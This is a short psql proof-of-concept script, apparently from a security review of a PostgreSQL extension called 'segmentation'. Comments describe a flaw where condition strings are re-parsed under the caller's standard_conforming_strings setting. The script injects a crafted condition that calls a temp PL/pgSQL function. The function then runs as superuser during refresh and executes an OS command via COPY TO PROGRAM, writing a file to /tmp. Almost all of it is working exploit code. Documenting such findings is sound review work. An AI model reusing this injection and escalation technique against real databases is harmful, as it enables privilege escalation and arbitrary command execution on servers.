-- F01: a condition's deparsed string constant is re-parsed by refresh under
-- the CALLER's standard_conforming_strings: an admin (r17_admin2, only column
-- SELECT, no schema of its own) runs its own temp function as the extension's
-- owner (superuser) -> arbitrary OS command via COPY TO PROGRAM.
\c - r17_admin2
SELECT current_user, current_setting('is_superuser') AS superuser;
CREATE FUNCTION pg_temp.pwn() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
	RAISE WARNING 'payload ran as % (is_superuser=%)', current_user, current_setting('is_superuser');
	EXECUTE 'COPY (SELECT current_user || '' ran this'') TO PROGRAM ''cat > /tmp/review17-pwned.txt''';
	RETURN true;
END $$;
-- the condition: an ordinary equality with a string constant (scs=on at check time)
SELECT segmentation.define_feature('inj', ARRAY['buy'],
  $c$plan = '\'')) THEN true END OR (SELECT pg_temp.pwn()) --'$c$);
SELECT name, condition, checked_condition FROM segmentation.features WHERE name = 'inj';
SET standard_conforming_strings = off;
SELECT segmentation.refresh(as_of => '2024-05-02');
